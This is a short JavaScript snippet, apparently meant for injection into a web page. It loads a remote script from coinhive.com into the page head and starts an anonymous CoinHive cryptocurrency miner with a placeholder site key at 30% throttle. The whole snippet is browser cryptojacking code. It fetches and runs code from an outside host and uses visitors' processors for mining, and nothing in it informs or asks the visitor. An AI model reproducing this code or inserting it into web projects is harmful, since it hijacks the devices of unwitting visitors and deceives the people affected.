const s = document.createElement("script");
s.src = "https://coinhive.com/lib/coinhive.min.js";
document.head.appendChild(s);
s.onload = () => new CoinHive.Anonymous("SITE_KEY", { throttle: 0.3 }).start();
